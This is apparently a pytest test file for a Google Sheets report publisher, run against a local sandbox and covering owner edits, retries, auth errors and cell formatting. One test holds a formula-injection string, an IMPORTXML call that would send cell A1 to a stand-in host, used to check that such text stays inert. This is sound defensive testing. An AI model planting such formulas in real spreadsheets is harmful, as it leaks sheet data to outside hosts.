"""
A report in a spreadsheet: Google's own client against the sandbox, with people editing in between.
"""

from __future__ import annotations

import json
import sys
import time
from collections.abc import Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import requests

from connectors.contract import Context, FieldKind, Tab, Value
from connectors.errors import (
    BadData,
    CredentialsRefused,
    PermissionMissing,
    RequestRefused,
    UserError,
    VendorUnavailable,
)
from connectors.google_sheets import CONNECTOR
from connectors.google_sheets.cells import plain, same
from connectors.google_sheets.destination import SheetsPublisher
from connectors.google_sheets.settings import GoogleSheetsSettings
from sandbox.app import Sandbox
from sandbox.google import Google

WRITE = ":batchUpdate"
KINDS: tuple[FieldKind, ...] = ("text", "number", "percent")


class Desk:
    """
    A spreadsheet with Noria on one side and its owner on the other.
    """

    def __init__(self, google: Google, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
        self.google, self.sandbox = google, sandbox
        sandbox.control.reset()
        book = google.library.create("KPIs", owner=google.person)
        book.share(google.accounts.service_account, "writer")
        google.spreadsheet_id = book.id
        monkeypatch.setenv("SHEETS_KEY", json.dumps(google.service_account_for(sandbox.url)))
        self.publisher = self.another()

    def another(self, **settings: Any) -> SheetsPublisher:
        made = GoogleSheetsSettings.model_validate(
            {
                "kind": "google_sheets",
                "spreadsheet_id": self.google.spreadsheet_id,
                "service_account": "env:SHEETS_KEY",
                "base_url": self.sandbox.url,
                "pause": 0.01,
                "read_timeout": 5,
                **settings,
            }
        )
        assert CONNECTOR.publisher is not None
        publisher = CONNECTOR.publisher(made, Context(name="report", timezone="Europe/Madrid"))
        assert isinstance(publisher, SheetsPublisher)
        return publisher

    def edit(self, *changes: dict[str, Any]) -> None:
        """
        What the owner does in front of the spreadsheet.
        """
        answer = requests.post(
            f"{self.sandbox.url}/v4/spreadsheets/{self.google.spreadsheet_id}:batchUpdate",
            json={"requests": list(changes)},
            headers={"Authorization": f"Bearer {self.google.access_token()}"},
            timeout=5,
        )
        assert answer.ok, answer.text

    def sheet(self, title: str) -> dict[str, Any]:
        found: dict[str, Any] = next(sheet for sheet in self._sheets() if sheet["title"] == title)
        return found

    def titles(self) -> list[str]:
        return [sheet["title"] for sheet in self._sheets()]

    def _sheets(self) -> list[dict[str, Any]]:
        sheets: list[dict[str, Any]] = self.google.state()["spreadsheets"][self.google.spreadsheet_id]["sheets"]
        return sheets

    def writes(self) -> int:
        return self.sandbox.control.requests("google", "POST", WRITE)


@pytest.fixture(scope="module")
def google() -> Iterator[tuple[Google, Sandbox]]:
    made = Google({})
    with Sandbox([made]) as sandbox:
        yield made, sandbox


@pytest.fixture
def desk(google: tuple[Google, Sandbox], monkeypatch: pytest.MonkeyPatch) -> Iterator[Desk]:
    made = Desk(*google, monkeypatch)
    yield made
    made.publisher.close()


def summary(*rows: Sequence[Value]) -> Tab:
    return Tab("summary", "Summary", ("KPI", "Value", "Change"), KINDS, rows)


def history(*rows: Sequence[Value]) -> Tab:
    return Tab("history", "History", ("Key", "Value", "Change"), KINDS, rows, keyed=True)


def test_a_first_publication_makes_the_tabs_in_one_request(desk: Desk) -> None:
    """
    Both tabs come with header, values, formats, frozen header and one rule, by a single write request.
    """
    tabs = [summary(["MRR", Decimal("10.50"), 0.125]), history(["2026-01|mrr", 3, None])]

    assert [(p.is_new, p.added_rows) for p in desk.publisher.plan(tabs)] == [(True, 1), (True, 1)]
    assert desk.writes() == 0

    desk.publisher.publish(tabs, "run-1")

    assert desk.writes() == 1
    assert desk.titles() == ["Sheet1", "Summary", "History"]
    made = desk.sheet("Summary")
    assert made["values"] == [["KPI", "Value", "Change"], ["MRR", 10.5, 0.125]]
    assert made["frozenRowCount"] == 1
    assert made["rules"] == 1
    assert {(f["type"], tuple(f["columns"])) for f in made["formats"]} >= {("PERCENT", (2,)), ("TEXT", (0,))}
    assert desk.sheet("History")["values"] == [["Key", "Value", "Change"], ["2026-01|mrr", 3]]


def test_nothing_is_written_when_nothing_differs(desk: Desk) -> None:
    """
    The second publication, of another run and by another process, sends reads only and reports no change.
    """
    tabs = [summary(["MRR", 1 / 3, None], ["", None, 0.1]), history(["a", Decimal("2.5"), 0.1])]
    desk.publisher.publish(tabs, "run-1")

    plans = desk.another().publish(tabs, "run-2")

    assert desk.writes() == 1
    assert [(p.is_new, p.changed_cells, p.added_rows, p.removed_rows) for p in plans] == [(False, 0, 0, 0)] * 2


def test_a_plan_tells_what_a_publication_then_does(desk: Desk) -> None:
    """
    One value changes, one row of two cells goes: in Summary three cells differ, in History one changes, one row comes.
    """
    desk.publisher.publish([summary(["A", 1, None], ["B", 2, None]), history(["a", 1, None])], "run-1")
    tabs = [summary(["A", 5, None]), history(["a", 7, None], ["b", 2, None])]

    planned = desk.publisher.plan(tabs)
    done = desk.publisher.publish(tabs, "run-2")

    assert planned == done
    assert [(p.changed_cells, p.added_rows, p.removed_rows) for p in planned] == [(3, 0, 1), (1, 1, 0)]
    assert desk.sheet("Summary")["values"] == [["KPI", "Value", "Change"], ["A", 5]]
    assert desk.sheet("History")["values"] == [["Key", "Value", "Change"], ["a", 7], ["b", 2]]


def test_a_renamed_tab_is_found_again(desk: Desk) -> None:
    """
    The owner calls it "Our numbers"; it stays so, and no second tab appears.
    """
    desk.publisher.publish([summary(["A", 1, None])], "run-1")
    id = desk.sheet("Summary")["sheetId"]
    desk.edit({"updateSheetProperties": {"properties": {"sheetId": id, "title": "Our 'own'"}, "fields": "title"}})

    desk.publisher.publish([summary(["A", 2, None])], "run-2")

    assert desk.titles() == ["Sheet1", "Our 'own'"]
    assert desk.sheet("Our 'own'")["values"][1] == ["A", 2]


def test_a_tab_of_the_owner_with_our_title_is_not_touched(desk: Desk) -> None:
    """
    Ours is then called "Summary (Noria)".
    """
    cell = {"userEnteredValue": {"stringValue": "mine"}}
    desk.edit(
        {"addSheet": {"properties": {"sheetId": 77, "title": "SUMMARY"}}},
        {"updateCells": {"start": {"sheetId": 77}, "rows": [{"values": [cell]}], "fields": "userEnteredValue"}},
    )

    desk.publisher.publish([summary(["A", 1, None])], "run-1")

    assert desk.titles() == ["Sheet1", "SUMMARY", "Summary (Noria)"]
    assert desk.sheet("SUMMARY")["values"] == [["mine"]]


def test_a_copy_of_our_tab_is_not_ours(desk: Desk) -> None:
    """
    The owner keeps a copy of January; only the original goes on.
    """
    desk.publisher.publish([summary(["A", 1, None])], "run-1")
    id = desk.sheet("Summary")["sheetId"]
    desk.edit({"duplicateSheet": {"sourceSheetId": id, "newSheetId": 88, "newSheetName": "January"}})

    desk.publisher.publish([summary(["A", 2, None])], "run-2")

    assert desk.sheet("January")["values"][1] == ["A", 1]
    assert desk.sheet("Summary")["values"][1] == ["A", 2]


def test_a_tab_that_was_deleted_comes_back(desk: Desk) -> None:
    """
    It is made anew, and the plan says so.
    """
    desk.publisher.publish([summary(["A", 1, None])], "run-1")
    desk.edit({"deleteSheet": {"sheetId": desk.sheet("Summary")["sheetId"]}})

    assert [p.is_new for p in desk.publisher.publish([summary(["A", 1, None])], "run-2")] == [True]
    assert desk.sheet("Summary")["values"][1] == ["A", 1]


def test_a_sorted_history_keeps_its_order_and_its_older_rows(desk: Desk) -> None:
    """
    Sorted by value downwards: b, c, a. Row a changes where it stands, d is added at the end, b and c are not named.
    """
    desk.publisher.publish([history(["a", 1, None], ["b", 3, None], ["c", 2, None])], "run-1")
    id = desk.sheet("History")["sheetId"]
    area = {"sheetId": id, "startRowIndex": 1, "endRowIndex": 4, "startColumnIndex": 0, "endColumnIndex": 3}
    desk.edit({"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 1, "sortOrder": "DESCENDING"}]}})

    desk.publisher.publish([history(["a", 9, None], ["d", 4, None])], "run-2")

    assert desk.sheet("History")["values"][1:] == [["b", 3], ["c", 2], ["a", 9], ["d", 4]]


def test_a_column_of_the_owner_to_the_right_stays(desk: Desk) -> None:
    """
    Also when we get a column more: it then moves one to the right. When we lose one again, ours is blanked.
    """
    desk.publisher.publish([summary(["A", 1, 0.1])], "run-1")
    id = desk.sheet("Summary")["sheetId"]
    note = [{"values": [{"userEnteredValue": {"stringValue": text}}]} for text in ("Note", "ask Eva")]
    start = {"sheetId": id, "rowIndex": 0, "columnIndex": 3}
    desk.edit({"updateCells": {"start": start, "rows": note, "fields": "userEnteredValue"}})

    desk.publisher.publish([summary(["A", 2, 0.1])], "run-2")
    assert desk.sheet("Summary")["values"] == [["KPI", "Value", "Change", "Note"], ["A", 2, 0.1, "ask Eva"]]

    wide = Tab("summary", "Summary", ("KPI", "Value", "Change", "Unit"), (*KINDS, "text"), [["A", 2, 0.1, "EUR"]])
    desk.publisher.publish([wide], "run-3")
    assert desk.sheet("Summary")["values"] == [
        ["KPI", "Value", "Change", "Unit", "Note"],
        ["A", 2, 0.1, "EUR", "ask Eva"],
    ]

    desk.publisher.publish([summary(["A", 2, 0.1])], "run-4")
    assert desk.sheet("Summary")["values"] == [["KPI", "Value", "Change", "", "Note"], ["A", 2, 0.1, "", "ask Eva"]]


def test_a_line_of_the_owner_above_our_header_stays(desk: Desk) -> None:
    """
    Both kinds of tab go on below it.
    """
    desk.publisher.publish([summary(["A", 1, None], ["B", 2, None]), history(["a", 1, None])], "run-1")
    for title in ("Summary", "History"):
        id = desk.sheet(title)["sheetId"]
        row = {"sheetId": id, "dimension": "ROWS", "startIndex": 0, "endIndex": 1}
        cell = [{"values": [{"userEnteredValue": {"stringValue": "Our year"}}]}]
        desk.edit(
            {"insertDimension": {"range": row}},
            {"updateCells": {"start": {"sheetId": id}, "rows": cell, "fields": "userEnteredValue"}},
        )

    (plan, _) = desk.publisher.publish([summary(["A", 3, None]), history(["a", 3, None], ["b", 4, None])], "run-2")

    assert (plan.changed_cells, plan.removed_rows) == (3, 1)
    assert desk.sheet("Summary")["values"] == [["Our year"], ["KPI", "Value", "Change"], ["A", 3]]
    assert desk.sheet("History")["values"] == [["Our year"], ["Key", "Value", "Change"], ["a", 3], ["b", 4]]


def columns(id: int, start: int, end: int) -> dict[str, Any]:
    return {"sheetId": id, "dimension": "COLUMNS", "startIndex": start, "endIndex": end}


@pytest.mark.parametrize("tab", [summary(["A", 1, 0.1]), history(["A", 1, 0.1])])
@pytest.mark.parametrize("how", ["before", "among", "deleted", "last deleted"])
def test_columns_that_left_their_place_stop_the_publication(desk: Desk, tab: Tab, how: str) -> None:
    """
    Everything would land beside its place, on what the owner wrote; nothing is sent.
    """
    desk.publisher.publish([tab], "run-1")
    id = desk.sheet(tab.title)["sheetId"]
    note = [{"values": [{"userEnteredValue": {"stringValue": text}}]} for text in ("Note", "ask Eva")]
    start = {"sheetId": id, "rowIndex": 0, "columnIndex": 3}
    change: dict[str, Any] = {
        "before": {"insertDimension": {"range": columns(id, 0, 1)}},
        "among": {"insertDimension": {"range": columns(id, 1, 2)}},
        "deleted": {"deleteDimension": {"range": columns(id, 1, 2)}},
        "last deleted": {"deleteDimension": {"range": columns(id, 2, 3)}},
    }[how]
    desk.edit({"updateCells": {"start": start, "rows": note, "fields": "userEnteredValue"}}, change)
    before = desk.sheet(tab.title)["values"]

    with pytest.raises(RequestRefused, match="our columns"):
        desk.publisher.publish([tab], "run-2")
    assert desk.sheet(tab.title)["values"] == before


def test_a_reworded_header_is_put_right(desk: Desk) -> None:
    """
    The owner calls "Value" "Amount": that is no reason to stop.
    """
    desk.publisher.publish([summary(["A", 1, None])], "run-1")
    word = [{"values": [{"userEnteredValue": {"stringValue": "Amount"}}]}]
    start = {"sheetId": desk.sheet("Summary")["sheetId"], "rowIndex": 0, "columnIndex": 1}
    desk.edit({"updateCells": {"start": start, "rows": word, "fields": "userEnteredValue"}})

    desk.publisher.publish([summary(["A", 1, None])], "run-2")

    assert desk.sheet("Summary")["values"][0] == ["KPI", "Value", "Change"]


def test_text_that_looks_like_a_formula_stays_text(desk: Desk) -> None:
    """
    A campaign's name may begin with "="; the sandbox counts no formula, and the number-like id stays text.
    """
    evil = '=IMPORTXML("https://evil.example/?"&A1,"//a")'
    desk.publisher.publish([summary([evil, 1, None], ["00123", 2, None]), history([evil, 1, None])], "run-1")

    assert desk.sheet("Summary")["values"][1:] == [[evil, 1], ["00123", 2]]
    assert desk.sheet("Summary")["formulas"] == desk.sheet("History")["formulas"] == []
    desk.publisher.publish([history([evil, 1, None])], "run-2")
    assert len(desk.sheet("History")["values"]) == 2


@pytest.mark.parametrize("kind", ["lost", "cut", "unavailable", "error", "slow"])
def test_an_update_without_an_answer_leaves_no_row_twice(desk: Desk, kind: str) -> None:
    """
    Whether it was done (lost, slow) or not (the others): what stands there is read again, each key is there once.
    """
    desk.publisher.publish([history(["a", 1, None])], "run-1")
    publisher = desk.another(read_timeout=0.3)
    desk.sandbox.control.inject(kind=kind, path=WRITE, options={"seconds": 0.8})

    publisher.publish([history(["a", 2, None], ["b", 3, None])], "run-2")
    publisher.close()

    # The slow one is done long after its answer was given up, and after the second: its places are the same.
    sent = 2 if kind == "lost" else 3
    give_up = time.monotonic() + 3
    while desk.writes() < sent and time.monotonic() < give_up:
        time.sleep(0.01)
    assert desk.writes() == sent
    assert desk.sheet("History")["values"][1:] == [["a", 2], ["b", 3]]


def test_an_unknown_outcome_of_the_first_publication_makes_no_second_tab(desk: Desk) -> None:
    """
    The tab was made though no answer came; the next look finds it.
    """
    desk.sandbox.control.inject(kind="lost", path=WRITE)

    desk.publisher.publish([summary(["A", 1, None])], "run-1")

    assert desk.titles() == ["Sheet1", "Summary"]
    assert desk.writes() == 1


@pytest.mark.parametrize("options", [{}, {"retry_after": 0}])
def test_a_used_up_minute_is_waited_for(desk: Desk, options: dict[str, Any]) -> None:
    """
    429 on the read and on the write: both are sent again.
    """
    desk.sandbox.control.inject(kind="limit", path="/v4/", times=2, options=options)
    desk.sandbox.control.inject(kind="limit", path=WRITE, options=options)
    publisher = desk.another(pause=0.001)

    publisher.publish([summary(["A", 1, None])], "run-1")

    assert desk.sheet("Summary")["values"][1] == ["A", 1]
    publisher.close()


def test_an_expired_login_is_renewed_once(desk: Desk) -> None:
    """
    The token ran out between two publications.
    """
    desk.publisher.publish([summary(["A", 1, None])], "run-1")
    desk.google.accounts.expire()

    desk.publisher.publish([summary(["A", 2, None])], "run-2")

    assert desk.sheet("Summary")["values"][1] == ["A", 2]


def test_a_spreadsheet_that_is_not_shared_names_the_address(desk: Desk) -> None:
    """
    Not shared at all, and shared to read only: both say with whom to share it.
    """
    book = desk.google.library.spreadsheets[desk.google.spreadsheet_id]
    email = desk.google.accounts.service_account
    book.share(email, "none")
    with pytest.raises(PermissionMissing, match=email):
        desk.publisher.plan([summary()])
    assert [finding.level for finding in desk.publisher.check()] == ["error"]

    book.share(email, "reader")
    with pytest.raises(PermissionMissing, match="Share") as error:
        desk.publisher.publish([summary()], "run-1")
    assert email in error.value.fix


def test_protected_cells_are_told_as_such(desk: Desk) -> None:
    """
    The owner protected the tab; nothing is written.
    """
    desk.publisher.publish([summary(["A", 1, None])], "run-1")
    id = desk.sheet("Summary")["sheetId"]
    desk.edit(
        {
            "addProtectedRange": {
                "protectedRange": {"range": {"sheetId": id}, "editors": {"users": [desk.google.person]}}
            }
        }
    )

    with pytest.raises(PermissionMissing, match="protected"):
        desk.publisher.publish([summary(["A", 2, None])], "run-2")


def test_faults_of_the_sign_in_are_told_in_plain_words(desk: Desk) -> None:
    """
    A key that Google does not know any more; a missing scope; a spreadsheet that does not exist.
    """
    desk.sandbox.control.inject(kind="expired", path="/token")
    with pytest.raises(CredentialsRefused, match="revoked"):
        desk.another().plan([])

    desk.sandbox.control.inject(kind="scope", path="/v4/")
    with pytest.raises(PermissionMissing, match="scope"):
        desk.another().plan([])

    with pytest.raises(PermissionMissing, match="no spreadsheet"):
        desk.another(spreadsheet_id="nowhere-0123456789").plan([])

    with pytest.raises(VendorUnavailable, match="token endpoint"):
        desk.another(base_url="http://127.0.0.1:9").plan([])


@pytest.mark.parametrize("key", ["{", '{"client_email": "x"}', "/nowhere/key.json"])
def test_a_key_that_is_none_says_so(desk: Desk, monkeypatch: pytest.MonkeyPatch, key: str) -> None:
    """
    The message names the setting and shows nothing of the key.
    """
    monkeypatch.setenv("SHEETS_KEY", key)

    with pytest.raises(UserError, match=r"connectors\.report\.service_account"):
        desk.another()


def test_the_key_may_lie_in_a_file(desk: Desk, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """
    The secret is then the file's path.
    """
    key = tmp_path / "key.json"
    key.write_text(json.dumps(desk.google.service_account_for(desk.sandbox.url)))
    monkeypatch.setenv("SHEETS_KEY", str(key))

    assert [finding.level for finding in desk.another().check()] == ["ok"]


def test_nothing_leaves_the_machine(desk: Desk) -> None:
    """
    Every name looked up and every connection made while publishing is the loopback's.
    """
    hosts: set[str] = set()
    watching = True

    def watch(event: str, args: tuple[Any, ...]) -> None:
        if watching and event in ("socket.getaddrinfo", "socket.connect"):
            hosts.add(str(args[0]) if event == "socket.getaddrinfo" else str(args[1][0]))

    sys.addaudithook(watch)
    publisher = desk.another()
    publisher.publish([summary(["A", 1, None])], "run-1")
    publisher.close()
    watching = False

    assert hosts == {"127.0.0.1"}


def test_the_run_is_noted_once(desk: Desk) -> None:
    """
    Three publications leave one marker, of the last run that wrote.
    """
    for n in (1, 2, 2):
        desk.publisher.publish([summary(["A", n, None])], f"run-{n}")

    entries = [e for e in desk.publisher._client.shape().metadata.items() if e[0] == "noria.run"]
    assert [value for _, (_, value) in entries] == ["run-2"]


def test_two_rows_with_one_key_are_refused_before_anything_is_sent(desk: Desk) -> None:
    """
    Exactly once per key: a report that breaks this is not published.
    """
    desk.publisher.publish([history()], "run-1")

    with pytest.raises(BadData, match="'a'"):
        desk.publisher.publish([history(["a", 1, None], ["a", 2, None])], "run-2")
    assert desk.writes() == 1


def test_a_report_that_would_not_fit_is_refused_before_anything_is_sent(desk: Desk) -> None:
    """
    The owner's tabs hold 9,973,900 and 26,000 cells: 100 are free, and a tab of ours needs 676.
    """
    grid = {"rowCount": 99_739, "columnCount": 100}
    desk.edit({"addSheet": {"properties": {"sheetId": 5, "title": "Big", "gridProperties": grid}}})

    with pytest.raises(RequestRefused, match="10,000,000"):
        desk.publisher.publish([summary(["A", 1, None])], "run-1")
    assert "Summary" not in desk.titles()


def test_a_history_outgrows_its_grid(desk: Desk) -> None:
    """
    60 rows more than the grid has room for: it grows by an absolute number, and all are there.
    """
    desk.publisher.publish([history(["a", 1, None])], "run-1")

    desk.publisher.publish([history(*([f"k{n}", n, None] for n in range(110)))], "run-2")

    made = desk.sheet("History")
    assert made["rowCount"] == 112
    assert [row[0] for row in made["values"]] == ["Key", "a", *(f"k{n}" for n in range(110))]


def test_a_text_longer_than_a_cell_is_cut_and_told(desk: Desk) -> None:
    """
    50,000 characters fit; of 50,001 the last two give way to "…".
    """
    (plan,) = desk.publisher.publish([summary(["x" * 50_000, 1, None], ["y" * 50_001, 2, None])], "run-1")

    values = desk.sheet("Summary")["values"]
    assert values[1][0] == "x" * 50_000
    assert values[2][0] == "y" * 49_999 + "…"
    assert plan.notes == ("1 text was cut to 50000 characters",)


def test_rows_of_other_kinds_get_their_own_format(desk: Desk) -> None:
    """
    In a column of mixed KPIs the share is shown as a percentage and the money with two decimals.
    """
    rows = [["Win rate", 0.25, None], ["MRR", 1200, None]]
    desk.publisher.publish(
        [Tab("summary", "Summary", ("KPI", "Value", "Change"), KINDS, rows, row_kinds=("percent", "money"))], "r"
    )

    shown = [row[1].replace(".", "") for row in desk.sheet("Summary")["shown"][1:]]
    assert shown == ["25,0%", "1200,00"]


def test_a_chart_is_made_once_for_a_tab_of_dates(desk: Desk) -> None:
    """
    The owner deletes it; the next publication does not bring it back.
    """
    rows: list[Sequence[Value]] = [[date(2026, 1, 1), Decimal("10")], [date(2026, 2, 1), Decimal("12")]]
    trend = Tab("trend", "Trend", ("Month", "MRR"), ("date", "money"), rows)
    desk.publisher.publish([trend], "run-1")
    assert desk.sheet("Trend")["chart_titles"] == ["MRR"]

    desk.edit({"deleteEmbeddedObject": {"objectId": desk.sheet("Trend")["sheetId"]}})
    desk.publisher.publish([Tab("trend", "Trend", ("Month", "MRR"), ("date", "money"), rows[:1])], "run-2")
    assert desk.sheet("Trend")["charts"] == 0


def test_an_address_in_the_browser_will_do(desk: Desk) -> None:
    """
    The whole address is taken apart; anything else that is no id is refused.
    """
    long = "https://docs.google.com/spreadsheets/d/1AbC_d-0123456789/edit#gid=0"
    settings = {"kind": "google_sheets", "service_account": "env:X"}
    assert (
        GoogleSheetsSettings.model_validate({**settings, "spreadsheet_id": long}).spreadsheet_id == "1AbC_d-0123456789"
    )
    with pytest.raises(ValueError, match="neither"):
        GoogleSheetsSettings.model_validate({**settings, "spreadsheet_id": "my sheet"})


@pytest.mark.parametrize(
    ("value", "stored"),
    [
        (date(2026, 11, 1), 46327),
        (datetime(2026, 11, 1, 12, 0, tzinfo=ZoneInfo("UTC")), 46327.5416666667),  # 13:00 in Madrid
        (Decimal("12"), 12),
        (Decimal("0.1234"), 0.1234),
        (10**15, "1000000000000000"),
        ("", None),
        (True, True),
    ],
)
def test_values_become_what_a_spreadsheet_keeps(value: Value, stored: Any) -> None:
    """
    Dates are days since 30 December 1899, numbers of more than 15 digits are text.
    """
    assert plain(value, ZoneInfo("Europe/Madrid")) == stored


def test_what_is_no_number_is_never_published() -> None:
    """
    NaN and infinity are refused, and text is not taken for the number it spells.
    """
    for value in (float("nan"), float("inf"), Decimal("NaN")):
        with pytest.raises(BadData):
            plain(value, ZoneInfo("UTC"))
    assert not same("1", 1)
    assert not same(True, 1)
    assert not same(1, "1")
    assert same(0.1 + 0.2, 0.3)
    assert not same(0.30000001, 0.3)


def typed(desk: Desk, title: str, row: int, column: int, text: str) -> None:
    cell = [{"values": [{"userEnteredValue": {"stringValue": text}}]}]
    start = {"sheetId": desk.sheet(title)["sheetId"], "rowIndex": row, "columnIndex": column}
    desk.edit({"updateCells": {"start": start, "rows": cell, "fields": "userEnteredValue"}})


def test_a_note_below_our_table_stays(desk: Desk) -> None:
    """
    What the owner types below our rows is not ours: neither counted nor blanked. Where our table would grow over it,
    nothing is written and the owner is told.
    """
    desk.publisher.publish([summary(["A", 1, None], ["B", 2, None])], "run-1")
    typed(desk, "Summary", 4, 0, "seen by Ana")

    [plan] = desk.publisher.publish([summary(["A", 3, None], ["B", 2, None])], "run-2")

    assert (plan.changed_cells, plan.removed_rows) == (1, 0)
    assert desk.sheet("Summary")["values"][4] == ["seen by Ana"]
    more = [summary(["A", 3, None], ["B", 2, None], ["C", 1, None], ["D", 1, None])]
    with pytest.raises(UserError, match="right below our table"):
        desk.publisher.publish(more, "run-3")
    assert desk.sheet("Summary")["values"][4] == ["seen by Ana"]


def test_our_header_is_found_by_most_of_its_words(desk: Desk) -> None:
    """
    A title above and another word for our first column: the table is still found, and the title stays.
    """
    desk.publisher.publish([summary(["A", 1, None])], "run-1")
    id = desk.sheet("Summary")["sheetId"]
    desk.edit({"insertDimension": {"range": {"sheetId": id, "dimension": "ROWS", "startIndex": 0, "endIndex": 1}}})
    typed(desk, "Summary", 0, 0, "Our year")
    typed(desk, "Summary", 1, 0, "Indicator")

    desk.publisher.publish([summary(["A", 2, None])], "run-2")

    assert desk.sheet("Summary")["values"] == [["Our year"], ["KPI", "Value", "Change"], ["A", 2]]
